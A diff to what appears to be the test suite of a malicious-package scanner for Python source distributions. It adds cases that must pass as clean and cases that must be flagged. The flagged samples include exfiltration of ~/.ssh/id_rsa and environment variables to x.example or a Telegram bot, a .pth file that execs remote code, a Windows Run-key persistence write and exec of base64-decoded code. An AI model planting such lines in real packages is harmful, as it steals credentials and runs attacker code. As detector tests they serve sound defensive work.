@@ -1183,12 +1183,69 @@ def test_eleventh_held_out_batch_shapes() -> None:
          "helperlib/ssh.py": ssh + "\nimport requests\nrequests.post('https://x.example/k', "
                                    "data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"},
         {"src/helperlib.pth": "import urllib.request;exec(urllib.request.urlopen('http://x.example/p').read())\n"},
-        {"setup.py": helper.replace("open(os.path.join(os.path.dirname(__file__), fname)).read()",
-                                    "__import__('urllib.request').request.urlopen('http://x.example/' + fname).read()")},
+        {"setup.py": helper.replace(
+            "open(os.path.join(os.path.dirname(__file__), fname)).read()",
+            "__import__('urllib.request').request.urlopen('http://x.example/' + fname).read()")},
         {"setup.py": cmake.replace("https://github.com/Kitware/CMake/releases/download/",
                                    "https://github.com/cmake-mirror/tools/releases/download/")},
         {"deploy/install-watchdog.sh": deploy,
          "setup.py": "import subprocess\nsubprocess.call(['bash', 'deploy/install-watchdog.sh'])\n" + _SETUP},
+    ]
+    for files in bad:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result != "clean", (sorted(files), findings)
+
+
+def test_twelfth_held_out_batch_shapes() -> None:
+    """Causes behind the twelfth held-out batch's false positives: a registry-backed settings store whose
+    keys are parameters (py-key-value-aio, arsenic), a Telegram bot library's API base address as a default
+    (python-telegram-bot, aiogram), the version ``eval``-ed from a line of a C header (xxtea), and a file
+    with PEP 701 f-strings (Python 3.12) that went to the text fallback, where an ``eval`` and an unrelated
+    ``b64decode`` import read as exec of decoded data (cmk-werk-zeug)."""
+    store = ("import winreg\n\ndef set_value(hive, sub_key, value_name, value):\n"
+             "    key = winreg.CreateKey(hive, sub_key)\n"
+             "    winreg.SetValueEx(key, value_name, 0, winreg.REG_SZ, value)\n")
+    bot = ("class Bot:\n    def __init__(self, token: str, base_url: str = 'https://api.telegram.org/bot',\n"
+           "                 base_file_url: str = 'https://api.telegram.org/file/bot'):\n"
+           "        self.base_url = base_url + token\n\nPRODUCTION = dict(base='https://api.telegram.org/bot{token}/"
+           "{method}')\n")
+    setup = ("from setuptools import setup\n\nwith open('helperlib.c') as f:\n    for line in f:\n"
+             "        if line.startswith('#define VERSION '):\n            VERSION = eval(line.rsplit(None, 1)[-1])\n\n"
+             "setup(name='helperlib', version=VERSION, packages=['helperlib'])\n")
+    modern = ("import re\nfrom base64 import b64decode\n\ntype Data = str | int | list[Data]\n\n"
+              "def evaluate(code, ns):\n    return eval(code, ns)  # the feature\n\n"
+              "def name_of(stem, suffix):\n    return f\"{stem}.{re.sub(r'[^\\w.-]', '_', suffix)}\"\n\n"
+              "def label(d):\n    return f\"{d[\"name\"]}: {d[\"value\"]}\"\n\n"
+              "def raw(info):\n    return b64decode(info.get('local_vars') or '').decode()\n")
+    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib.c": '#define VERSION "0.1"\n'}
+    cases: list[dict[str, str]] = [
+        {"helperlib/__init__.py": "from . import store\n", "helperlib/store.py": store},
+        {"helperlib/__init__.py": "from . import bot\n", "helperlib/bot.py": bot},
+        {"setup.py": setup},
+        {"helperlib/__init__.py": "from . import modern\n", "helperlib/modern.py": modern},
+    ]
+    for files in cases:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result == "clean", (sorted(files), findings)
+    facts = facts_of(sdist("helperlib", "0.1", {**base, **cases[3]}))
+    recovered = [s for s in facts.signals if s.file == "helperlib/modern.py" and s.detail.get("recovered")]
+    assert recovered and not [s for s in facts.signals if s.kind == "code.unparsable"]
+    # the Run key written at import, the bot address a file posts to, a version line from the network, and
+    # exec of decoded data in a 3.12 file (parsed after the rewrite, or on one line in the text fallback)
+    bad: list[dict[str, str]] = [
+        {"helperlib/__init__.py": "from . import store\n",
+         "helperlib/store.py": store + "\nimport sys\nset_value(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft"
+                                       "\\Windows\\CurrentVersion\\Run', 'upd', sys.executable)\n"},
+        {"helperlib/__init__.py": "from . import bot\n",
+         "helperlib/bot.py": bot + "\nimport os, requests\nrequests.post(PRODUCTION['base'].format(token=os.getenv("
+                                   "'TG'), method='sendMessage'), data={'text': str(os.environ)})\n"},
+        {"setup.py": setup.replace("with open('helperlib.c') as f:",
+                                   "import urllib.request\nwith urllib.request.urlopen('http://x.example/v') as f:")},
+        {"helperlib/__init__.py": "from . import modern\n",
+         "helperlib/modern.py": modern + "\nexec(b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=='))\n"},
+        {"helperlib/__init__.py": "from . import broken\n",
+         "helperlib/broken.py": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=='))\n"
+                                "def f(:\n    pass\n"},
     ]
     for files in bad:
         result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
